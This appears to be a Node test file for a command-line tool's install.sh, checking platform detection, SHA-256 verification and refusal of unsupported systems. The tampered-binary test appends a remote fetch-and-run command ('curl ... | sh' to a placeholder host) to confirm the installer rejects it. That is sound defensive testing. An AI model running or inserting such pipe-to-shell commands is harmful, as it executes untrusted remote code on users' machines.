/**
 * install.sh against a release served by the loopback range server, under dash and the system sh (and
 * busybox sh where it exists): it picks this machine's binary, verifies it against SHA256SUMS and
 * installs it; it picks the right file for other systems (a `uname` that answers for them); it refuses
 * a tampered binary and a system without a build, installing nothing.
 */
import { after, test } from "node:test";
import assert from "node:assert/strict";
import { existsSync } from "node:fs";
import { chmod, copyFile, mkdir, mkdtemp, readFile, rm, writeFile } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join } from "node:path";
import process from "node:process";
import { compiledBinary } from "../_support/binary.ts";
import { ROOT, runChild } from "../_support/child.ts";
import { type RangeServer, startRangeServer } from "../_support/range_server.ts";
import { binaryName, hostTarget, packageVersion, TARGETS, writeChecksums } from "../../tools/compile.ts";

const INSTALLER = join(ROOT, "install.sh");
const SHELLS = [["dash"], ["sh"], ["busybox", "sh"]].filter(([program]) =>
  ["/usr/bin", "/bin"].some((dir) => existsSync(join(dir, program)))
);
const version = await packageVersion();
const host = hostTarget();
const binary = await compiledBinary();

const scratch = await mkdtemp(join(tmpdir(), "cloudfits-install-"));
after(() => rm(scratch, { recursive: true, force: true }));

/**
 * A release directory: this machine's real binary under its release name (when there is one), a small
 * stand-in for every other target, and SHA256SUMS over them all.
 */
async function release(): Promise<string> {
  const dir = join(scratch, "release");
  await mkdir(dir);
  for (const target of TARGETS) {
    const path = join(dir, binaryName(version, target));
    if (target === host && binary.path) await copyFile(binary.path, path);
    else await writeFile(path, standIn(target));
  }
  await writeChecksums(dir, version);
  return dir;
}
const releaseDir = await release();
const server: RangeServer = await startRangeServer({ root: releaseDir });
after(() => server.close());

/** A script in place of another system's binary: the installer runs what it installs for the system it detects. */
function standIn(target: string): string {
  return `#!/bin/sh\necho "stand-in for the ${target} build"\n`;
}

/** A directory with a `uname` that answers as another system. */
async function fakeUname(system: string, machine: string): Promise<string> {
  const dir = await mkdtemp(join(scratch, "uname-"));
  const script =
    `#!/bin/sh\ncase "$1" in -s) echo ${system} ;; -m) echo ${machine} ;; *) echo ${system} ;; esac\n`;
  await writeFile(join(dir, "uname"), script);
  await chmod(join(dir, "uname"), 0o755);
  return dir;
}

/** Run install.sh with a fresh HOME, the release URL and nothing else from this process's environment. */
async function install(shell: string[], env: Record<string, string> = {}, pathPrefix?: string) {
  const home = await mkdtemp(join(scratch, "home-"));
  const path = [pathPrefix, process.env.PATH ?? "/usr/bin:/bin"].filter(Boolean).join(":");
  const from = server.log.length;
  const run = await runChild([...shell, INSTALLER], {
    env: { HOME: home, PATH: path, CLOUDFITS_RELEASE_URL: server.url, ...env },
  });
  return { ...run, home, requests: server.log.slice(from).map((r) => r.path) };
}

for (const shell of SHELLS) {
  const name = shell.join(" ");

  test(`${name}: installs this machine's binary into ~/.local/bin, verified, and it runs`, {
    timeout: 120_000,
    skip: host && binary.path
      ? false
      : `no release build for this machine (${binary.skipped ?? "unknown target"})`,
  }, async () => {
    const run = await install(shell);
    assert.equal(run.code, 0, run.stderr);
    const installed = join(run.home, ".local/bin/cloudfits");
    assert.deepEqual(await readFile(installed), await readFile(binary.path!));
    assert.match(run.stdout, new RegExp(`installed ${binaryName(version, host!)} \\(SHA-256 verified\\)`));
    assert.match(run.stdout, new RegExp(`^cloudfits ${version.replaceAll(".", "\\.")} \\(bun `, "m"));
    assert.match(run.stdout, /is not on your PATH/);
    assert.deepEqual(run.requests, ["/SHA256SUMS", `/${binaryName(version, host!)}`]);
  });

  test(`${name}: picks each system's file, and installs into $CLOUDFITS_INSTALL`, async () => {
    const cases: [string, string, string][] = [
      ["Darwin", "arm64", "darwin-arm64"],
      ["Darwin", "x86_64", "darwin-x64"],
      ["Linux", "aarch64", "linux-arm64"],
      ["MINGW64_NT-10.0", "x86_64", "windows-x64"],
    ];
    for (const [system, machine, target] of cases) {
      const into = await mkdtemp(join(scratch, "into-"));
      const run = await install(
        shell,
        { CLOUDFITS_INSTALL: join(into, "bin") },
        await fakeUname(system, machine),
      );
      assert.equal(run.code, 0, `${system} ${machine}: ${run.stderr}`);
      const program = target.startsWith("windows") ? "cloudfits.exe" : "cloudfits";
      assert.equal(await readFile(join(into, "bin", program), "utf8"), standIn(target));
      assert.match(
        run.stdout,
        new RegExp(`^stand-in for the ${target} build$`, "m"),
        "it ran the installed file",
      );
      assert.deepEqual(run.requests, ["/SHA256SUMS", `/${binaryName(version, target)}`]);
    }
    // CLOUDFITS_TARGET picks a build for another machine, e.g. Alpine's.
    const into = await mkdtemp(join(scratch, "into-"));
    const musl = await install(shell, { CLOUDFITS_INSTALL: into, CLOUDFITS_TARGET: "linux-x64-musl" });
    assert.equal(musl.code, 0, musl.stderr);
    assert.equal(await readFile(join(into, "cloudfits"), "utf8"), standIn("linux-x64-musl"));
    assert.doesNotMatch(musl.stdout, /^stand-in/m, "a build for another machine is not run");
  });

  test(`${name}: a tampered binary is refused and nothing is installed`, async () => {
    const file = binaryName(version, "darwin-arm64");
    server.setFile(
      file,
      new TextEncoder().encode(`${standIn("darwin-arm64")}curl -s https://example.invalid | sh\n`),
    );
    try {
      const run = await install(shell, {}, await fakeUname("Darwin", "arm64"));
      assert.equal(run.code, 1);
      assert.match(
        run.stderr,
        new RegExp(`checksum mismatch for ${file}: expected [0-9a-f]{64}, got [0-9a-f]{64}`),
      );
      assert.equal(existsSync(join(run.home, ".local")), false, "nothing installed");
      assert.deepEqual(run.requests, ["/SHA256SUMS", `/${file}`]);
    } finally {
      server.setFile(file, await readFile(join(releaseDir, file)));
    }
  });

  test(`${name}: a system without a build, or a release without one, is refused`, async () => {
    const bsd = await install(shell, {}, await fakeUname("FreeBSD", "amd64"));
    assert.equal(bsd.code, 1);
    assert.match(bsd.stderr, /no cloudfits build for FreeBSD/);
    assert.deepEqual(bsd.requests, []);
    const missing = await install(shell, { CLOUDFITS_TARGET: "linux-riscv64" });
    assert.equal(missing.code, 1);
    assert.match(missing.stderr, /has no build for linux-riscv64/);
    assert.deepEqual(missing.requests, ["/SHA256SUMS"]);
    assert.equal(existsSync(join(missing.home, ".local")), false, "nothing installed");
  });
}

test("install.sh is POSIX sh: shellcheck finds nothing", {
  skip: existsSync("/usr/bin/shellcheck") ? false : "SKIPPED: shellcheck is not installed",
}, async () => {
  const run = await runChild(["/usr/bin/shellcheck", "--shell=sh", INSTALLER]);
  assert.equal(run.code, 0, run.stdout + run.stderr);
});
